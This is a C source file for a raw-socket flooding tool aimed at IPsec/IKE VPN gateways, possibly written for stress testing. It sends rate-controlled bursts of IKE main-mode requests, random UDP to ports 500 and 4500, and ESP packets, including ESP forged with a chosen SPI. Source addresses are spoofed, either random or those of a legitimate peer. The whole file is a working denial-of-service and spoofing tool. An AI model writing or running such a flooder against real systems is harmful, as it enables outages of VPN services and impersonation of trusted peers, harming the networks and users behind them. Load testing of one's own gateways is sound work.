/* A flood for a gateway: flooder RATE SECONDS TARGET PEER SPI FIRST KIND...
 *
 * Sends RATE packets in a second, for SECONDS, of all KINDs in turns, to TARGET, by a raw socket:
 *   begin      a first message of main mode (FIRST, in hex) with a cookie of its own, from any address
 *   peer       the same in the name of PEER
 *   changed    the same with its last octet changed, in the name of PEER
 *   ike        random octets for UDP port 500, from any address
 *   natt       random octets for UDP port 4500, half of them behind a non-ESP marker, from any address
 *   unknown    ESP with a random SPI, in the name of PEER
 *   forged     ESP with SPI (in hex) and sequence numbers that fit, in the name of PEER; its ICV is random
 * Prints how many the kernel took, and the seconds that this lasted.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 20
#define LARGEST 2048

static uint64_t state;

static uint32_t dice(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static void fill(uint8_t *octets, size_t count)
{
	for (size_t at = 0; at < count; at++)
		octets[at] = (uint8_t)dice();
}

static void put16(uint8_t *at, unsigned value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static size_t begins(uint8_t *at, const uint8_t *first, size_t length)
{
	memcpy(at, first, length);
	fill(at, 8);
	return length;
}

/* The payload of UDP or ESP; the IP protocol, source and port are told. */
static size_t payload(const char *kind, uint8_t *at, const uint8_t *first, size_t length, uint32_t spi,
		      int *protocol, int *forged, unsigned *port)
{
	size_t size;

	*protocol = IPPROTO_UDP;
	*forged = 0;
	*port = 500;
	if (!strcmp(kind, "begin"))
		return begins(at, first, length);
	if (!strcmp(kind, "peer") || !strcmp(kind, "changed")) {
		*forged = 1;
		size = begins(at, first, length);
		if (*kind == 'c')
			at[size - 1] ^= 1;
		return size;
	}
	size = 28 + dice() % 200;
	if (!strcmp(kind, "ike")) {
		fill(at, size);
		return size;
	}
	if (!strcmp(kind, "natt")) {
		*port = 4500;
		fill(at, size);
		if (dice() & 1)
			memset(at, 0, 4);
		return size;
	}
	*protocol = IPPROTO_ESP;
	*forged = 1;
	fill(at, 100);
	if (!strcmp(kind, "forged")) {
		spi = htonl(spi);
		memcpy(at, &spi, 4);
		at[4] &= 0x7f;
		at[5] |= 1;
	}
	return 100;
}

int main(int argc, char **argv)
{
	static uint8_t packets[BATCH][LARGEST], first[LARGEST];
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	struct sockaddr_in target = { .sin_family = AF_INET };
	struct in_addr peer;
	struct timespec begun, due, now;
	size_t length;
	uint64_t sent = 0, batches, gap;
	int raw, kinds = argc - 7, turn = 0, one = 4 << 20;
	double rate, lasted;

	if (kinds < 1 || !inet_aton(argv[3], &target.sin_addr) || !inet_aton(argv[4], &peer))
		return 2;
	rate = atof(argv[1]);
	length = strlen(argv[6]) / 2;
	for (size_t at = 0; at < length && at < 1400; at++)
		sscanf(argv[6] + 2 * at, "%2hhx", &first[at]);
	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0)
		return 1;
	setsockopt(raw, SOL_SOCKET, SO_SNDBUF, &one, sizeof one);
	clock_gettime(CLOCK_MONOTONIC, &begun);
	state = (uint64_t)begun.tv_nsec * 2654435761u + 88172645463325252u;
	batches = (uint64_t)(rate * atof(argv[2]) / BATCH);
	gap = (uint64_t)(1e9 * BATCH / rate);
	due = begun;
	for (uint64_t batch = 0; batch < batches; batch++) {
		for (int number = 0; number < BATCH; number++, turn++) {
			uint8_t *packet = packets[number], *body = packet + 20;
			int protocol, forged;
			unsigned port;
			size_t size = payload(argv[7 + turn % kinds], body + 8, first, length,
					      (uint32_t)strtoul(argv[5], NULL, 16), &protocol, &forged, &port);
			uint32_t source = htonl(0x0b000000u | (dice() & 0x00ffffffu));

			memset(packet, 0, 20);
			if (protocol == IPPROTO_UDP) {
				put16(body, forged ? 500 : 1024 + dice() % 60000);
				put16(body + 2, port);
				put16(body + 4, (unsigned)size + 8);
				put16(body + 6, 0);
				size += 8;
			} else {
				memmove(body, body + 8, size);
			}
			packet[0] = 0x45;
			put16(packet + 2, (unsigned)size + 20);
			put16(packet + 4, dice() & 0xffff);
			packet[8] = 64;
			packet[9] = (uint8_t)protocol;
			memcpy(packet + 12, forged ? (void *)&peer.s_addr : (void *)&source, 4);
			memcpy(packet + 16, &target.sin_addr, 4);
			parts[number].iov_base = packet;
			parts[number].iov_len = size + 20;
			memset(&messages[number], 0, sizeof messages[number]);
			messages[number].msg_hdr.msg_name = &target;
			messages[number].msg_hdr.msg_namelen = sizeof target;
			messages[number].msg_hdr.msg_iov = &parts[number];
			messages[number].msg_hdr.msg_iovlen = 1;
		}
		for (int done = 0; done < BATCH;) {
			int took = sendmmsg(raw, messages + done, (unsigned)(BATCH - done), 0);

			if (took > 0)
				sent += (uint64_t)took;
			done += took > 0 ? took : 1;
		}
		due.tv_nsec += (long)gap;
		while (due.tv_nsec >= 1000000000L) {
			due.tv_nsec -= 1000000000L;
			due.tv_sec++;
		}
		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
	}
	clock_gettime(CLOCK_MONOTONIC, &now);
	lasted = (double)(now.tv_sec - begun.tv_sec) + (double)(now.tv_nsec - begun.tv_nsec) / 1e9;
	printf("%llu %.3f\n", (unsigned long long)sent, lasted);
	return 0;
}
